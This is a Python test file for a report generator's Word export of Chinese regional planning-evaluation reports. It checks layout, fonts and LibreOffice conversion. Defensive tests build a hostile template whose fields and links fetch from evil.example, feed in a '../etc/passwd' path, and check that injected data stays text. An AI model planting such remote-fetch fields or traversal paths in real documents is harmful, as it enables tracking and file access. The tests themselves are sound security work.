"""The Word edition, read back as an editor's office suite would: the city's and 紫金县's 2023 reports rendered
through the runner beside their HTML page, then opened with python-docx (headings, tables, numbers, pictures, fields,
styles, properties) and converted by headless LibreOffice (title, headings, a CJK font, the TOC's page numbers and
every number whole in the PDF)."""

from __future__ import annotations

import base64
import dataclasses
import datetime as dt
import html as html_lib
import io
import json
import re
import shutil
import subprocess
import time
import zipfile
from collections import Counter
from collections.abc import Callable
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from docx import Document
from docx.enum.text import WD_ALIGN_PARAGRAPH, WD_COLOR_INDEX
from docx.opc.constants import RELATIONSHIP_TYPE as RT
from docx.oxml import parse_xml
from docx.oxml.ns import qn
from docx.shared import Pt
from PIL import Image
from pypdf import PdfReader

from conftest import CONTEXT, HOSTILE
from helpers import batch, cli
from helpers.batch import fingerprint
from helpers.batch.jobs import Job
from helpers.batch.worker import read_record
from helpers.context import ConfError
from helpers.report import Report, Words, findings
from helpers.report import data as report_data
from helpers.report.charts import chart_store, stored_png
from helpers.report.core import report_title, title_lines
from helpers.report.render import RenderError
from helpers.report.word import Edition, parse, reference_template, write_docx

CITY, COUNTY = "441600", "441621"
YEAR = 2023
WORDS = CONTEXT.words("zh")
SETTINGS = CONTEXT.report.word
GBT_9704 = {"Title": "方正小标宋简体", "Heading 1": "黑体", "Heading 2": "楷体_GB2312", "Heading 3": "仿宋_GB2312",
            "Body Text": "仿宋_GB2312", "Caption": "黑体", "表格文字": "仿宋_GB2312"}
NUMBER = re.compile(r"\d+(?:[,.]\d+)*")


@pytest.fixture(scope="module")
def rendered(rendered: dict) -> dict[str, dict[str, Path]]:
    """The 2023 city and county reports as HTML and Word, through the runner (records written; conftest, once a
    session)."""
    return {area: rendered[YEAR, area] | {"reports": rendered["reports"]} for area in (CITY, COUNTY)}


def _word(data: report_data.ReportData, out: Path) -> Path:
    """The Word edition of `data` built in this process as the runner builds it: the sections once, their charts'
    PNGs left in the chart store."""
    report = Report(data, word=True)
    sections = [section.data for section in report.sections()]
    store = chart_store(CONTEXT)
    title = data.words("page_title", area_name=data.area_name, year=data.year, title=report.title)
    return write_docx(sections, out, CONTEXT, data.words, title, report.title, lambda key: stored_png(store, key))


def _page(rendered: dict, area: str) -> str:
    return rendered[area]["html"].read_text(encoding="utf-8")


def _doc(rendered: dict, area: str):  # noqa: ANN202 — a python-docx Document
    return Document(str(rendered[area]["docx"]))


@pytest.fixture(scope="module")
def converted(rendered: dict, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    """Both documents converted to PDF by headless LibreOffice, as an editor's LibreOffice lays them out."""
    soffice = shutil.which("soffice")
    assert soffice, "LibreOffice is missing: make install-system installs libreoffice-writer-nogui"
    out = tmp_path_factory.mktemp("libreoffice")
    for area in (CITY, COUNTY):
        started = time.perf_counter()
        subprocess.run([soffice, f"-env:UserInstallation={(out / 'profile').as_uri()}", "--headless", "--convert-to",
                        "pdf", "--outdir", str(out), str(rendered[area]["docx"])], check=True, capture_output=True,
                       timeout=300)
        print(f"{rendered[area]['docx'].name}: {time.perf_counter() - started:.1f} s")
    return {area: out / f"{rendered[area]['docx'].stem}.pdf" for area in (CITY, COUNTY)}


def _squeeze(text: str) -> str:
    return re.sub(r"\s+", "", text)


def _toc_numbers(doc) -> list[str]:  # noqa: ANN001
    """The page number each TOC entry shows ('' where none)."""
    return [(p.text.split("\t") + [""])[1] for p in doc.paragraphs if p.style.name in ("toc 1", "toc 2")]


def _face(style, script: str = "eastAsia") -> str | None:  # noqa: ANN001 — a python-docx style
    """The face a style gives to Chinese text (or to Latin text, `ascii`), through its bases."""
    while style is not None:
        fonts = style.element.rPr.find(qn("w:rFonts")) if style.element.rPr is not None else None
        if fonts is not None and fonts.get(qn(f"w:{script}")):
            return fonts.get(qn(f"w:{script}"))
        style = style.base_style
    return None


def _headings(doc) -> list[tuple[int, str]]:  # noqa: ANN001
    return [(int(p.style.name[-1]), p.text) for p in doc.paragraphs if p.style.name.startswith("Heading ")]


def _html_headings(page: str) -> list[tuple[int, str]]:
    """The page's h2–h6 outside the table of contents, as Word levels (h2 → 1, h3 → 2, deeper → 3)."""
    body = re.sub(r"<nav.*?</nav>", "", page, flags=re.S)
    return [(min(int(level) - 1, 3), html_lib.unescape(re.sub(r"<[^>]+>", "", text)).strip())
            for level, text in re.findall(r"<h([2-6])[^>]*>(.*?)</h\1>", body, flags=re.S)]


def _html_tables(page: str) -> list[tuple[list[str], int]]:
    """Each table of the page (a chart's numbers aside: on screen only): its header cells and number of body rows."""
    out = []
    for table in re.findall(r"<table.*?</table>", re.sub(r"<details.*?</details>", "", page, flags=re.S), flags=re.S):
        head = re.search(r"<thead>(.*?)</thead>", table, flags=re.S)
        header = [_squeeze(html_lib.unescape(re.sub(r"<[^>]+>", "", c)))
                  for c in re.findall(r"<th[^>]*>(.*?)</th>", head[1], flags=re.S)] if head else []
        body = table[head.end():] if head else table
        out.append((header, len(re.findall(r"<tr[\s>]", body))))
    return out


def _header_rows(table) -> int:  # noqa: ANN001
    return sum(row._tr.trPr is not None and row._tr.trPr.find(qn("w:tblHeader")) is not None for row in table.rows)


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_the_word_edition_is_written_beside_the_page_and_recorded(rendered: dict, area: str) -> None:
    name = CONTEXT.areas.names[area]
    assert rendered[area]["docx"].name == f"{area}_{name}.docx"
    record = read_record(rendered[area]["reports"], Job(YEAR, area, name))
    assert f"{YEAR}/{area}_{name}.docx" in record["files"] and record["seconds"]["docx"] > 0
    with zipfile.ZipFile(rendered[area]["docx"]) as package:
        assert "word/vbaProject.bin" not in package.namelist()  # no macros
        assert "macroEnabled" not in package.read("[Content_Types].xml").decode()


def test_asking_for_the_word_edition_changes_the_reports_digest(hostile_processed: Path) -> None:
    """An incremental run re-renders a report once .docx is asked for (the record lists it, the digest names it)."""
    job = Job(YEAR, CITY, CONTEXT.areas.names[CITY])
    manifest = json.loads((hostile_processed / "manifest.json").read_text(encoding="utf-8"))
    digests = [fingerprint.job_digests([job], manifest, formats, "code", CONTEXT, "zh")[job]
               for formats in (["html", "pdf"], ["html", "pdf", "docx"])]
    assert digests[0] != digests[1]


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_headings_are_the_pages_in_order_as_word_heading_styles(rendered: dict, area: str) -> None:
    doc, page = _doc(rendered, area), _page(rendered, area)
    assert _headings(doc) == _html_headings(page)
    assert {level for level, _ in _headings(doc)} >= {1, 2}
    title = next(p for p in doc.paragraphs if p.style.name == "Title")
    h1 = re.search(r"<h1[^>]*>(.*?)</h1>", page, flags=re.S)[1]
    assert title.text == html_lib.unescape(re.sub(r"<[^>]+>", "", re.sub(r"<br\s*/?>", "\n", h1)))
    # two lines that break where the page breaks them: 「…“十四五”规划」, 「实施中期评估报告」
    assert title.text.split("\n") == title_lines(YEAR, CONTEXT.plan, Words.of(CONTEXT, "zh"))
    for level in (1, 2):  # real heading styles: outline levels for the navigation pane and the TOC
        assert doc.styles[f"Heading {level}"].element.pPr.outlineLvl.val == level - 1


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_the_toc_is_a_field_over_the_headings(rendered: dict, area: str) -> None:
    doc = _doc(rendered, area)
    xml = doc.element.xml
    assert re.search(r'<w:instrText[^>]*> TOC \\o "1-2" \\h \\z \\u </w:instrText>', xml)
    entries = [p.text.split("\t")[0] for p in doc.paragraphs if p.style.name in ("toc 1", "toc 2")]
    assert entries == [text for level, text in _headings(doc) if level <= 2]
    assert doc.settings.element.find(qn("w:updateFields")) is not None  # Word fills the page numbers on opening


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_every_indicator_name_is_in_the_document(rendered: dict, area: str) -> None:
    text = "\n".join(p.text for p in _doc(rendered, area).paragraphs) + "".join(
        c.text for t in _doc(rendered, area).tables for r in t.rows for c in r.cells)
    for indicator in CONTEXT.plan.indicators:
        assert indicator.name in text, indicator.name


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_every_table_has_the_pages_header_and_rows(rendered: dict, area: str) -> None:
    doc, page = _doc(rendered, area), _page(rendered, area)
    word = []
    for table in doc.tables:
        heads = _header_rows(table)
        header = [_squeeze(c.text) for c in table.rows[0].cells] if heads else []
        word.append((header, len(table.rows) - heads))
    assert word == _html_tables(page)
    assert len(word) > 5


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_header_rows_repeat_and_numbers_are_right_aligned(rendered: dict, area: str) -> None:
    doc = _doc(rendered, area)
    data_tables = [t for t in doc.tables if _header_rows(t)]
    assert data_tables and all(_header_rows(t) == 1 for t in data_tables)
    numeric = re.compile(r"-?[\d,]+(\.\d+)?%?")
    cells = [c for t in data_tables for row in t.rows[1:] for c in row.cells if numeric.fullmatch(c.text.strip())]
    assert len(cells) > 50
    assert all(c.paragraphs[0].alignment == WD_ALIGN_PARAGRAPH.RIGHT for c in cells)
    # statuses and grades keep their symbol and word (black-and-white print), bold by their run style
    statuses = [c.text for t in data_tables for row in t.rows[1:] for c in row.cells
                if any(r.style.name == "状态" for r in c.paragraphs[0].runs)]
    page = _page(rendered, area)
    assert statuses == [html_lib.unescape(text) for text in
                        re.findall(r'<td class="(?:status|grade)\b[^"]*"[^>]*>(.*?)</td>', page)]
    symbols = {s["symbol"] for s in CONTEXT.plan.statuses.values()}
    assert sum(text.split(" ")[0] in symbols for text in statuses) >= len(CONTEXT.plan.indicators)


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_the_indicator_tables_numbers_are_the_evaluations(rendered: dict, hostile_processed: Path, area: str) -> None:
    doc = _doc(rendered, area)
    key = "indicators.city_columns" if area == CITY else "indicators.county_columns"
    columns = list(CONTEXT.words("zh")["indicators"][key.split(".")[1]])
    years = {"base_year": CONTEXT.plan.base_year, "target_year": CONTEXT.plan.target_year, "year": YEAR}
    header = [_squeeze(str(h).format(**years)) for h in WORDS["indicators"][key.split(".")[1]].values()]
    table = next(t for t in doc.tables if [_squeeze(c.text) for c in t.rows[0].cells] == header)
    evaluation = pd.read_parquet(hostile_processed / "evaluation.parquet")
    own = evaluation[(evaluation["year"] == YEAR) & (evaluation["area_code"] == area)].set_index("name")
    rows = {row.cells[columns.index("name")].text: row for row in table.rows[1:]}
    assert set(rows) == set(own.index) and len(rows) == len(CONTEXT.plan.indicators)
    for name, row in rows.items():
        expected = own.loc[name]
        places = CONTEXT.plan.indicator(expected["indicator"]).decimals
        value = re.split(r"[\s（]", row.cells[columns.index("value")].text)[0]  # notes (样本量小, 官方…) follow it
        assert value == findings.number(expected["value"], places), name
        if value != "—":  # the printed figure is the dataset's, rounded half up to the indicator's places
            assert abs(float(value.replace(",", "")) - expected["value"]) <= 0.5 * 10 ** -places + 1e-9
        assert row.cells[columns.index("ratio")].text == findings.number(expected["ratio"], 2), name


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_charts_are_print_resolution_pictures_with_their_captions(rendered: dict, area: str) -> None:
    doc, page = _doc(rendered, area), _page(rendered, area)
    charts = len(re.findall(r'<figure class="chart"', page))
    pictures = doc.inline_shapes
    assert charts and len(pictures) == charts
    width = doc.sections[-1].page_width - doc.sections[-1].left_margin - doc.sections[-1].right_margin
    for shape in pictures:
        blob = doc.part.related_parts[shape._inline.graphic.graphicData.pic.blipFill.blip.embed].blob
        image = Image.open(io.BytesIO(blob))
        assert image.format == "PNG" and image.info["dpi"][0] >= 299
        assert image.width / (shape.width / 914400) >= 299  # pixels per inch as placed
        assert shape.width <= width
    captions = [p.text for p in doc.paragraphs if p.style.name == "Caption" and p.text.startswith("图")]
    assert len(captions) == charts
    pictured = [n for n, p in enumerate(doc.paragraphs) if p._p.xpath(".//pic:pic")]
    assert all(doc.paragraphs[n + 1].text.startswith("图") for n in pictured)


@pytest.mark.e2e
def test_text_from_data_stays_text(rendered: dict) -> None:
    doc = _doc(rendered, CITY)
    text = "\n".join(p.text for p in doc.paragraphs) + "\n".join(
        c.text for t in doc.tables for r in t.rows for c in r.cells)
    page = _page(rendered, CITY)
    hostile = {html_lib.unescape(t).strip() for t in re.findall(r">([^<>]*&lt;[^<>]*)<", page)}
    assert any(HOSTILE in h for h in hostile)
    for shown in hostile:
        assert _squeeze(shown) in _squeeze(text)
    xml = doc.element.xml
    instructions = re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", xml)
    assert {i.split()[0] for i in instructions} == {"TOC", "PAGEREF"} and "fldSimple" not in xml
    assert "<script" not in xml


def test_a_missing_assessor_slot_is_a_highlighted_placeholder(hostile_processed: Path, tmp_path: Path,
                                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no LibreOffice layout: the slot is the document's, not the pages'
    data = report_data.load(hostile_processed, CONTEXT, YEAR, CITY)
    data = dataclasses.replace(data, assessor={**data.assessor, "overall": None})
    doc = Document(str(_word(data, tmp_path / "draft.docx")))
    placeholder = WORDS["assessor"]["placeholder"]
    heading = next(n for n, p in enumerate(doc.paragraphs)
                   if p.text == WORDS["assessor"]["heading"].format(title=WORDS["assessor"]["slots"]["overall"]))
    slot = doc.paragraphs[heading + 1]
    assert slot.text == placeholder and slot.style.name == "评估组待填写"
    assert all(run.font.highlight_color == WD_COLOR_INDEX.YELLOW for run in slot.runs)
    written = [p for p in doc.paragraphs if p.style.name == "Body Text"]
    assert written and all(r.font.highlight_color is None for p in written for r in p.runs)


def test_an_evaluators_emphasis_is_bold_and_italic_in_word(hostile_processed: Path) -> None:
    data = report_data.load(hostile_processed, CONTEXT, YEAR, CITY)
    data = dataclasses.replace(data, assessor={**data.assessor, "overall": "总体处于**“一般”**水平，*仅供参考*。"})
    edition = Edition(SETTINGS)
    for section in Report(data).sections(only=["summary"]):
        edition.add(section.data)
    slot = next(p for p in edition.doc.paragraphs if p.text.startswith("总体处于"))
    assert slot.text == "总体处于“一般”水平，仅供参考。"
    assert [r.text for r in slot.runs if r.bold] == ["“一般”"]
    assert [r.text for r in slot.runs if r.italic] == ["仅供参考"]


def test_the_converter_follows_the_html_not_a_list_of_sections(tmp_path: Path) -> None:
    """A section and a column the converter has never seen (a benchmark section) come out like the others."""
    edition = Edition(SETTINGS)
    edition.add('<section id="benchmark"><h2>十二、对标分析</h2><p>与<b>同类城市</b>比较。</p>'
                '<figure class="table-figure"><figcaption>表9　对标</figcaption><table class="numbers">'
                '<colgroup><col style="width: 40%"><col style="width: 30%"><col style="width: 30%"></colgroup>'
                '<thead><tr><th>城市</th><th>每万人\n发明专利</th><th>新列</th></tr></thead><tbody>'
                '<tr><td>河源市</td><td>2.75</td><td class="status">▼ 滞后</td></tr>'
                '<tr><td>{ MERGEFIELD x }\x01</td><td>1,234.5</td><td>—</td></tr></tbody></table></figure>'
                '</section>')
    doc = Document(str(edition.save(tmp_path / "x.docx")))
    assert [(p.style.name, p.text) for p in doc.paragraphs] == [
        ("Heading 1", "十二、对标分析"), ("Body Text", "与同类城市比较。"), ("Caption", "表9　对标")]
    assert doc.paragraphs[1].runs[1].bold and doc.paragraphs[2].paragraph_format.keep_with_next
    table = doc.tables[0]
    assert [c.text for c in table.rows[0].cells] == ["城市", "每万人\n发明专利", "新列"]
    assert [c.text for c in table.rows[2].cells] == ["{ MERGEFIELD x }", "1,234.5", "—"]
    assert table.rows[1].cells[2].paragraphs[0].runs[0].style.name == "状态"
    assert [c.paragraphs[0].alignment for c in table.rows[2].cells][1] == WD_ALIGN_PARAGRAPH.RIGHT
    widths = [c.width for c in table.rows[1].cells]
    assert widths[0] / sum(widths) == pytest.approx(0.4, abs=0.01)
    assert "instrText" not in doc.element.xml


def test_a_tables_caption_comes_first_and_its_row_headers_are_body_cells(tmp_path: Path) -> None:
    """The page's tables carry their caption inside (<caption>) and name their rows (<th scope="row">): Word writes the
    caption above the table, kept with it, and a row header as the body cell it looks like on the page."""
    edition = Edition(SETTINGS)
    edition.add('<table class="numbers" id="table-3"><caption>表3　数据来源</caption>'
                '<colgroup><col style="width: 60%"><col style="width: 40%"></colgroup>'
                '<thead><tr><th scope="col">数据来源</th><th scope="col">行数</th></tr></thead><tbody>'
                '<tr><th scope="row">专利</th> <td>1,234</td></tr></tbody></table>')
    doc = Document(str(edition.save(tmp_path / "x.docx")))
    assert [(p.style.name, p.text) for p in doc.paragraphs] == [("Caption", "表3　数据来源")]
    assert doc.paragraphs[0].paragraph_format.keep_with_next
    table = doc.tables[0]
    assert _header_rows(table) == 1 and [c.text for c in table.rows[1].cells] == ["专利", "1,234"]
    head, row = table.rows[0].cells[0], table.rows[1].cells[0]
    assert row.paragraphs[0].style.name == SETTINGS.tables["default"]["cell"] != head.paragraphs[0].style.name
    assert row._tc.tcPr.find(qn("w:shd")) is None and head._tc.tcPr.find(qn("w:shd")) is not None


def test_a_charts_numbers_stay_on_the_page(tmp_path: Path) -> None:
    """A chart's data table (a collapsed <details> under it, on screen only) is not in the Word edition: the picture
    and its caption are."""
    png = io.BytesIO()
    Image.new("RGB", (30, 20), "white").save(png, format="PNG", dpi=(300, 300))
    image = base64.b64encode(png.getvalue()).decode("ascii")
    edition = Edition(SETTINGS)
    edition.add(f'<figure class="chart" id="figure-1"><img src="data:image/png;base64,{image}" alt="走势">'
                '<figcaption>图1　走势</figcaption><details class="chart-data"><summary>图1的数据</summary>'
                '<table class="numbers"><caption>图1的数据：走势</caption><thead><tr><th scope="col">指标</th>'
                '<th scope="col">2021年</th></tr></thead><tbody><tr><th scope="row">发明专利</th> <td>2.25</td></tr>'
                '</tbody></table></details></figure><details><summary>其他</summary><p>仅在网页</p></details>')
    doc = Document(str(edition.save(tmp_path / "x.docx")))
    assert len(doc.inline_shapes) == 1 and not doc.tables
    assert [p.text for p in doc.paragraphs if p.text] == ["图1　走势"]


def test_a_reference_template_restyles_by_its_own_styles(tmp_path: Path) -> None:
    """A bureau's template keeps its 仿宋_GB2312 body and 方正小标宋 title; the report's other styles are added."""
    bureau = Document()
    bureau.styles["Normal"].font.name = "仿宋_GB2312"
    bureau.styles["Title"].font.name = "方正小标宋简体"
    bureau.styles["Title"].font.size = Pt(24)
    bureau.add_paragraph("红头示例文字")
    template = tmp_path / "bureau.docx"
    bureau.save(str(template))
    edition = Edition(SETTINGS, template)
    edition.add("<section><h1>报告标题</h1><p>正文。</p></section>")
    doc = Document(str(edition.save(tmp_path / "out.docx")))
    assert [p.text for p in doc.paragraphs] == ["报告标题", "正文。"]  # the template's own text is not kept
    assert doc.styles["Title"].font.name == "方正小标宋简体" and doc.styles["Title"].font.size == Pt(24)
    assert doc.styles["Normal"].font.name == "仿宋_GB2312"
    assert doc.styles["表格文字"].font.size.pt == SETTINGS.styles["表格文字"]["size"]


def _zip_edit(path: Path, edits: dict[str, Callable[[str], str]]) -> None:
    """Rewrite members of the .docx at `path` (a missing member starts empty), as a hand-edited file would be."""
    with zipfile.ZipFile(path) as source:
        members = {info.filename: source.read(info) for info in source.infolist()}
    for name, edit in edits.items():
        members[name] = edit(members.get(name, b"").decode("utf-8")).encode("utf-8")
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as target:
        for name, data in members.items():
            target.writestr(name, data)


def test_a_reference_templates_remote_parts_do_not_reach_the_reports(tmp_path: Path) -> None:
    """A template attached to a remote .dotm, with INCLUDEPICTURE/INCLUDETEXT fields from a web server and a link in
    its 红头: every report made from it would fetch them (and tell the server who opened it)."""
    from docx.opc.constants import RELATIONSHIP_TYPE as RT
    from docx.oxml import OxmlElement

    from helpers.report.word import _field

    bureau = Document()
    header = bureau.sections[0].header
    paragraph = header.paragraphs[0]
    paragraph.add_run("河源市市场监督管理局")
    _field(paragraph, 'INCLUDEPICTURE "http://evil.example/logo.png" \\d', "徽标")
    paragraph._p.append(OxmlElement("w:fldSimple", {qn("w:instr"): 'INCLUDETEXT "http://evil.example/t.docx"'}))
    link = OxmlElement("w:hyperlink", {qn("r:id"): header.part.relate_to("http://evil.example/", RT.HYPERLINK,
                                                                           is_external=True)})
    link.append(OxmlElement("w:r"))
    link[0].append(OxmlElement("w:t"))
    link[0][0].text = "局网站"
    paragraph._p.append(link)
    bureau.add_paragraph().add_run()
    _field(bureau.paragraphs[-1], 'INCLUDETEXT "http://evil.example/body.docx"', "正文")
    template = tmp_path / "bureau.docx"
    bureau.save(str(template))
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxml'
            'formats.org/package/2006/relationships"><Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/normal.dotm" '
            'TargetMode="External"/></Relationships>')
    _zip_edit(template, {
        "word/settings.xml": lambda xml: re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdT"/>', xml),
        "word/_rels/settings.xml.rels": lambda _: rels})
    with zipfile.ZipFile(template) as check:  # the template is what the issue describes
        assert "attachedTemplate" in check.read("word/settings.xml").decode()

    edition = Edition(SETTINGS, template)
    edition.add("<section><h1>报告标题</h1><p>正文。</p></section>")
    out = edition.save(tmp_path / "out.docx")
    with zipfile.ZipFile(out) as docx:
        parts = {name: docx.read(name).decode("utf-8", "replace") for name in docx.namelist()}
    everything = "".join(parts.values())
    assert 'TargetMode="External"' not in everything
    for gone in ("evil.example", "INCLUDEPICTURE", "INCLUDETEXT", "attachedTemplate"):
        assert gone not in everything, gone
    doc = Document(str(out))
    assert doc.sections[0].header.paragraphs[0].text == "河源市市场监督管理局局网站", "the 红头's text stays"
    assert [p.text for p in doc.paragraphs] == ["报告标题", "正文。"]


def test_a_reference_template_must_be_a_docx_in_the_project(tmp_path: Path) -> None:
    def context(name: str) -> SimpleNamespace:
        return SimpleNamespace(report=SimpleNamespace(word=SETTINGS.model_copy(update={"template": name})),
                               conf=SimpleNamespace(root=tmp_path))

    (tmp_path / "t.docx").write_bytes(b"")
    assert reference_template(context("")) is None and reference_template(context("t.docx")) == tmp_path / "t.docx"
    (tmp_path.parent / "outside.docx").write_bytes(b"")
    for wrong in ("missing.docx", "../etc/passwd", "t.dotm", "../outside.docx"):
        with pytest.raises(ConfError, match="word.template"):
            reference_template(context(wrong))


def test_parse_keeps_text_and_structure() -> None:
    root = parse('<p class="a b">x &lt;y&gt;<br>z<img src="data:," alt="q"></p>')
    paragraph = root.children[0]
    assert paragraph.classes == ["a", "b"] and paragraph.text() == "x <y>z"
    assert [c.tag for c in paragraph.children if not isinstance(c, str)] == ["br", "img"]


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_libreoffice_opens_both_documents_with_title_headings_and_a_cjk_font(rendered: dict, converted: dict,
                                                                              area: str) -> None:
    """The PDF's text has the title and every heading, its fonts are CJK faces (no missing-glyph boxes: the headings
    read back as the characters written) — free ones standing in for the GB/T 9704 faces this machine lacks."""
    reader = PdfReader(converted[area])
    text = _squeeze("".join(page.extract_text() for page in reader.pages))
    doc = _doc(rendered, area)
    title = next(p.text for p in doc.paragraphs if p.style.name == "Title")
    assert _squeeze(title) in text
    for _, heading in _headings(doc):
        assert _squeeze(heading) in text, heading
    fonts = {str(font.get_object().get("/BaseFont")) for page in reader.pages
             for font in (page["/Resources"].get("/Font") or {}).values()}
    assert any("CJK" in f for f in fonts), fonts
    assert len(reader.pages) > 10


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_the_toc_shows_the_pages_libreoffice_lays_the_headings_on(rendered: dict, converted: dict, area: str) -> None:
    """Opened in LibreOffice with no update: every TOC entry has the number of the page its heading is on, as that
    page's footer shows it (the PDF's bookmarks are the headings)."""
    reader = PdfReader(converted[area])

    def flat(items: list) -> list:
        return [x for item in items for x in (flat(item) if isinstance(item, list) else [item])]

    footer = re.compile(r"—\s*(\d+)\s*—")
    pages = {}
    for mark in flat(reader.outline):
        index = reader.get_destination_page_number(mark)
        pages.setdefault(_squeeze(mark.title), footer.findall(reader.pages[index].extract_text())[-1])
    doc = _doc(rendered, area)
    entries = [p.text.split("\t")[0] for p in doc.paragraphs if p.style.name in ("toc 1", "toc 2")]
    numbers = _toc_numbers(doc)
    assert numbers == [pages[_squeeze(entry)] for entry in entries]
    first = reader.get_destination_page_number(flat(reader.outline)[0])
    shown = "".join(page.extract_text() for page in reader.pages[:first])  # the cover and the TOC's pages
    assert re.findall(r"\.{3,}\s*(\d+)", shown) == numbers


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_no_number_is_broken_across_lines_in_libreoffice(rendered: dict, converted: dict, area: str) -> None:
    """Every number of the document's tables (and text) is whole in LibreOffice's layout: as often in the PDF's text
    as in the document (a number broken at a line end, 「17,8/00」, reads back as two)."""
    doc = _doc(rendered, area)
    cells = {cell._tc: cell.text for table in doc.tables for row in table.rows for cell in row.cells}
    tables = Counter(n for text in cells.values() for n in NUMBER.findall(text))
    written = tables + Counter(n for p in doc.paragraphs for n in NUMBER.findall(p.text))
    shown = Counter(NUMBER.findall("\n".join(page.extract_text() for page in PdfReader(converted[area]).pages)))
    assert sum(tables.values()) > 300
    assert {n: (written[n], shown[n]) for n in written if shown[n] < written[n]} == {}


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_styles_name_the_gbt_9704_faces_with_free_stand_ins_in_the_font_table(rendered: dict, area: str) -> None:
    """Chinese text in 方正小标宋简体 (title), 黑体, 楷体_GB2312, 仿宋_GB2312, Latin text and numbers in Times New
    Roman, through every style the document uses (no theme font); the font table names the free face standing in
    for each GB/T face, its class and the GB2312 character set. Numbers are Latin text, Chinese is Chinese."""
    doc = _doc(rendered, area)
    assert {name: _face(doc.styles[name]) for name in GBT_9704} == GBT_9704
    names = {p.style.name for p in doc.paragraphs} | {p.style.name for t in doc.tables for r in t.rows
                                                      for c in r.cells for p in c.paragraphs}
    used = [doc.styles[name] for name in names]
    assert {_face(style) for style in used} <= set(GBT_9704.values())
    assert {_face(style, "ascii") for style in used} == {"Times New Roman"}
    assert "Theme" not in "".join(style.element.xml for style in used)
    table = parse_xml(doc.part.part_related_by(RT.FONT_TABLE).blob)
    fonts = {f.get(qn("w:name")): {c.tag.split("}")[1]: c.get(qn("w:val")) for c in f} for f in table}
    for name, spec in SETTINGS.fonts.items():
        assert fonts[name] == {"altName": spec["alt"], "panose1": spec["panose"], "charset": "86",
                               "family": spec["family"]}, name
    assert {spec["alt"] for spec in SETTINGS.fonts.values()} == {"Noto Serif CJK SC", "Noto Sans CJK SC"}
    lang = doc.styles["Normal"].element.rPr.find(qn("w:lang"))
    assert (lang.get(qn("w:val")), lang.get(qn("w:eastAsia"))) == ("en-US", "zh-CN")


@pytest.mark.e2e
@pytest.mark.parametrize("area", [CITY, COUNTY])
def test_properties_are_the_reports_and_its_title_runs_in_the_header(rendered: dict, area: str) -> None:
    """Title, the evaluator (here the placeholder) as author and last editor, the render time; none of python-docx's
    template (created 2013 by 「Microsoft Macintosh Word」, its thumbnail and bibliography store). The report's title
    heads every page after the cover, as in the PDF."""
    doc = _doc(rendered, area)
    core = doc.core_properties
    words = Words.of(CONTEXT, "zh")
    title = report_title(YEAR, CONTEXT.plan, words)
    assert core.title == words("page_title", area_name=CONTEXT.areas.names[area], year=YEAR, title=title)
    assert core.author == core.last_modified_by == WORDS["assessor"]["placeholder"]
    rendered_at = dt.datetime.fromtimestamp(rendered[area]["docx"].stat().st_mtime, dt.UTC)
    assert core.created == core.modified and abs(core.created - rendered_at) < dt.timedelta(minutes=10)
    assert core.revision == 1 and not (core.subject or core.keywords or core.comments or core.category)
    with zipfile.ZipFile(rendered[area]["docx"]) as package:
        names = package.namelist()
    assert "docProps/app.xml" not in names and "docProps/thumbnail.jpeg" not in names
    assert not any(name.startswith("customXml/") for name in names)
    cover, body = doc.sections
    assert [body.header.paragraphs[0].text, body.even_page_header.paragraphs[0].text] == [title, title]
    assert body.header.paragraphs[0].style.name == "Header"
    assert not any(p.text for h in (cover.header, cover.even_page_header) for p in h.paragraphs)


def test_a_table_starts_and_ends_a_page_with_rows_kept_together(tmp_path: Path) -> None:
    """The caption, the header and the first two rows are kept with what follows, as are the last two rows: no
    table leaves its header and one row at a page's foot, nor its last row alone on the next page; no row splits."""
    edition = Edition(SETTINGS)
    rows = "".join(f"<tr><td>{n}</td><td>{n * 1000:,}</td></tr>" for n in range(1, 7))
    edition.add('<figure class="table-figure"><figcaption>表1　六行</figcaption><table><thead><tr><th>序号</th>'
                f'<th>数值</th></tr></thead><tbody>{rows}</tbody></table></figure>')
    doc = Document(str(edition.save(tmp_path / "t.docx")))
    assert doc.paragraphs[0].text == "表1　六行" and doc.paragraphs[0].paragraph_format.keep_with_next
    table = doc.tables[0]
    kept = [all(p.paragraph_format.keep_with_next for c in row.cells for p in c.paragraphs) for row in table.rows]
    assert kept == [True, True, False, False, False, True, False]  # header, row 1 | rows 2–4 | row 5 with row 6
    assert all(row._tr.trPr.find(qn("w:cantSplit")) is not None for row in table.rows)


def test_without_libreoffice_the_toc_waits_for_the_reader_and_the_run_says_so_once(
        hostile_processed: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
        capsys: pytest.CaptureFixture) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))  # no soffice
    data = report_data.load(hostile_processed, CONTEXT, YEAR, COUNTY)
    doc = Document(str(_word(data, tmp_path / "no-libreoffice.docx")))
    assert re.search(r"> TOC \\o ", doc.element.xml) and _toc_numbers(doc) and not any(_toc_numbers(doc))
    runs = []
    monkeypatch.setattr(batch, "run", lambda jobs, *_, **__: runs.append(jobs) or batch.RunResult([], tmp_path, 0))
